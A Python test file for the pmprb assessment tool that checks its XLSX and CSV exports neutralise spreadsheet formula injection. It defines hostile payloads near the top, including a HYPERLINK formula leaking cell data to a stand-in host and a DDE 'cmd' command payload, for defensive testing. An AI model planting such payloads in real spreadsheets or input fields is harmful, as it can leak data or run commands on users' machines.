"""Every export of a round whose user text is hostile carries no formula
(issue 15, item 2): notes, consensus rationale, RATL texts, unit, person and
institution names hold every dangerous prefix (``=``, ``+``, ``-``, ``@``,
tab, CR) and the classic payloads; then every XLSX and CSV pmprb writes is
opened and every cell checked:

- XLSX: no cell is a formula or an error value, except the LKE's own total
  formulas, recognised by where they are (the value/score/percent columns
  of the LKE sheet, the figures of its summary sheet) and by what they are
  made of (cell references, numbers, the few functions pmprb writes, short
  answer codes) — none carries user text;
- CSV: no cell starts with a formula character unless it is a plain number
  or neutralised with a leading ``'``.

The exports are run through the CLI, as a user runs them: ``assess export``
(xlsx, csv), ``ratl export`` (xlsx, csv), ``report lke`` (xlsx) and
``report ratl`` (xlsx, csv) — every report format that writes a spreadsheet
(``report berita-acara`` and ``report ringkasan`` write HTML or PDF only).
"""

from __future__ import annotations

import csv
import io
import re
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from pmprb.cli import main
from pmprb.safe_output import FORMULA_START

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "coordinator"))
import coordinator_support as cs  # noqa: E402

HYPERLINK = '=HYPERLINK("http://contoh.test/?leak="&A2,"Klik")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1)"
HOSTILE = [HYPERLINK, CMD, SUM, "-2+3 kurang", "\tTab di depan", "\rCR di depan", "=1+1", "+62 812", "-"]
PAYLOAD_MARKS = ("HYPERLINK", "cmd|", "calc", "@SUM", "1+1")



@pytest.fixture
def db_backend() -> str:
    return "sqlite"  # what is written does not depend on the backend; one is enough here


def hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


def build_round(db) -> cs.World:
    """Kota Contoh with hostile names, two assessors on MP and PPU of DINKES
    with hostile notes, a dispute resolved with a hostile rationale, final,
    and RATL items edited with hostile texts."""
    from datetime import date

    from pmprb.assessments import wiring
    from pmprb.assessments.assess import answers, worksheets
    from pmprb.assessments.coordinate import ratl
    from pmprb.assessments.setup import assignments, people, rounds, units
    from pmprb.assessments.setup.permissions import resolve_actor

    def setup(s):
        people.init(s, institution_code="kota-contoh", institution_name=HYPERLINK, admin_username="admin",
                    admin_name=SUM)
        admin = resolve_actor(s, "admin")
        for username, name, roles in [("kora", CMD, ["koordinator"]), ("ani", "=1+1 Ani", ["asesor"]),
                                      ("budi", "-Budi", ["asesor"]), ("audi", "@Audi", ["auditor"])]:
            people.add_person(s, admin, username=username, name=name, roles=roles)
        units.add_unit(s, admin, code="DINKES", name=HYPERLINK)
        units.add_unit(s, admin, code="ORTALA", name=CMD)
        kora = resolve_actor(s, "kora")
        rnd = rounds.create_round(s, kora, year=2024, code="2024", title=SUM, instrument="pmprb-2014",
                                  deadline=date(2024, 5, 31))
        dinkes = units.get_unit(s, "DINKES")
        for a in ("ani", "budi"):
            assignments.assign(s, kora, rnd, people.get_person(s, a), [dinkes], ["MP", "PPU"])
        wiring.open_round(s, kora, rnd)

    db.run(setup)
    w = cs.World(db)
    base = cs.baseline("pmprb-2014", ("MP", "PPU"))
    w.answers = {"ani": dict(base), "budi": dict(base, **{"MP.1.b": "A", "MP.1.c": "A", "MP.2.a": "Tidak"})}
    for a in ("ani", "budi"):
        items = [answers.AnswerInput(criterion=cid, answer=ans, note=hostile(i) + f" catatan {a}")
                 for i, (cid, ans) in enumerate(w.answers[a].items())]
        w.as_(a, lambda s, actor, r, items=items: answers.save_answers(s, actor, r, units.get_unit(s, "DINKES"),
                                                                       items))
        w.as_(a, lambda s, actor, r: worksheets.submit(s, actor, r, worksheets.get_worksheet(
            s, r, units.get_unit(s, "DINKES"), people.get_person(s, actor.username))))
    cs.to_consensus(w, ("ani", "budi"))
    from pmprb.assessments.coordinate import consensus

    disputed = w.read(lambda s: [i.criterion_id for i in consensus.list_items(s, w.rnd(s), state="open")])
    assert disputed, "the planted disputes open consensus items"
    for i, cid in enumerate(disputed):
        cs.resolve(w, cid, w.answers["budi"][cid], rationale=hostile(i) + " alasan rapat",
                   participants=("kora", "ani", "budi"))
    cs.set_hasil(w)
    cs.finalise(w)
    items = w.read(lambda s: [i.criterion_id for i in ratl.list_items(s, w.rnd(s))])
    assert items, "the round has RATL items to edit"
    for i, cid in enumerate(items):
        w.as_("kora", lambda s, a, r, cid=cid, i=i: ratl.update(
            s, a, r, cid, rencana_aksi=hostile(i) + " rencana", output=hostile(i + 1) + " keluaran",
            unit="ORTALA" if i % 2 else "DINKES"))
    return w


@pytest.fixture
def exported(db, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    build_round(db)

    def run(*args, actor="kora"):
        res = CliRunner().invoke(main, ["--db", db.url, "--as", actor, *args])
        assert res.exit_code == 0, res.output
        return res

    out = tmp_path / "out"
    out.mkdir()
    files = {}
    for fmt in ("xlsx", "csv"):
        files[f"assess-{fmt}"] = out / f"assess.{fmt}"
        run("assess", "export", "--round", "2024", "--unit", "DINKES", "--format", fmt, "-o",
            str(files[f"assess-{fmt}"]), actor="ani")
        files[f"ratl-export-{fmt}"] = out / f"ratl-export.{fmt}"
        run("ratl", "export", "--round", "2024", "--format", fmt, "-o", str(files[f"ratl-export-{fmt}"]))
        files[f"report-ratl-{fmt}"] = out / f"report-ratl.{fmt}"
        run("report", "ratl", "--round", "2024", "--format", fmt, "-o", str(files[f"report-ratl-{fmt}"]))
    files["report-lke-xlsx"] = out / "report-lke.xlsx"
    run("report", "lke", "--round", "2024", "--format", "xlsx", "-o", str(files["report-lke-xlsx"]))
    return files


def test_every_report_format_that_writes_a_spreadsheet_is_exported_here():
    from pmprb.commands.report import REPORTS

    spreadsheet = {name: sorted(set(formats) & {"xlsx", "csv"}) for name, (_m, formats) in REPORTS.items()}
    assert spreadsheet == {"lke": ["xlsx"], "berita-acara": [], "ratl": ["csv", "xlsx"], "ringkasan": []}


# ---------------------------------------------------------------------------
# XLSX

_LKE_FORMULA = re.compile(r"""=(?:[A-Z]{1,3}\$?\d+|'?[A-Za-z ]+'?![A-Z]+\d+|\d+(?:\.\d+)?|"[A-Za-z0-9 .+-]{0,12}"
                             |SUM|AVERAGE|IF|OR|AND|MIN|MAX|COUNT|[-+*/(),=<>:]|\s)*""", re.X)


def lke_formula_allowed(sheet: str, cell, sheets: list[str]) -> bool:
    """One of pmprb's own LKE formulas: on the LKE sheet in the computed
    columns, or a reference on the summary sheet; made only of references,
    numbers, pmprb's functions and short answer codes."""
    from pmprb.reports.lke_workbook import COL

    formula = str(cell.value)
    if any(mark in formula for mark in PAYLOAD_MARKS) or not _LKE_FORMULA.fullmatch(formula):
        return False
    if sheet == sheets[0]:
        return cell.column_letter in {COL["answer"], COL["value"], COL["score"], COL["percent"]}
    return cell.column in (4, 5)


def xlsx_cells(path: Path):
    from openpyxl import load_workbook

    wb = load_workbook(path)  # not read-only: data types as stored
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield wb.sheetnames, ws.title, cell


@pytest.mark.parametrize("name", ["assess-xlsx", "ratl-export-xlsx", "report-ratl-xlsx", "report-lke-xlsx"])
def test_xlsx_exports_hold_user_text_as_strings(exported, name):
    formulas, errors, hostile_seen = [], [], set()
    for sheets, sheet, cell in xlsx_cells(exported[name]):
        if cell.data_type == "e":
            errors.append(f"{sheet}!{cell.coordinate}")
        elif cell.data_type == "f":
            if not (name == "report-lke-xlsx" and lke_formula_allowed(sheet, cell, sheets)):
                formulas.append(f"{sheet}!{cell.coordinate}: {cell.value}")
        elif isinstance(cell.value, str):
            assert cell.data_type in ("s", "inlineStr"), (sheet, cell.coordinate, cell.data_type)
            hostile_seen.update(p for p in (HYPERLINK, CMD, SUM, "=1+1", "-2+3") if p in cell.value)
    assert not formulas and not errors, (formulas[:10], errors[:10])
    assert {HYPERLINK, CMD} <= hostile_seen, f"{name}: the hostile text must reach the file to prove anything"
    if name == "report-lke-xlsx":
        assert any(c.data_type == "f" for _s, _t, c in xlsx_cells(exported[name])), "the LKE keeps its formulas"


def test_xlsx_raw_xml_has_no_formula_with_user_text(exported):
    """Below openpyxl: no <f> element of any exported workbook holds user text."""
    import zipfile

    for name, path in exported.items():
        if path.suffix != ".xlsx":
            continue
        with zipfile.ZipFile(path) as z:
            for entry in z.namelist():
                if entry.startswith("xl/worksheets/"):
                    xml = z.read(entry).decode("utf-8")
                    for formula in re.findall(r"<f[^>]*>(.*?)</f>", xml, re.S):
                        assert name == "report-lke-xlsx", (name, entry, formula)
                        assert not any(m in formula for m in PAYLOAD_MARKS), (name, entry, formula)


# ---------------------------------------------------------------------------
# CSV

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


@pytest.mark.parametrize("name", ["assess-csv", "ratl-export-csv", "report-ratl-csv"])
def test_csv_exports_neutralise_every_formula_cell(exported, name):
    text = exported[name].read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    live = [(n, cell) for n, row in enumerate(rows, start=1) for cell in row
            if cell.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(cell)]
    assert not live, live[:10]
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'" + HYPERLINK) for cell in cells), f"{name}: hostile text must reach the file"
    assert any(cell.startswith("'" + CMD) or cell.startswith("'" + SUM) for cell in cells)
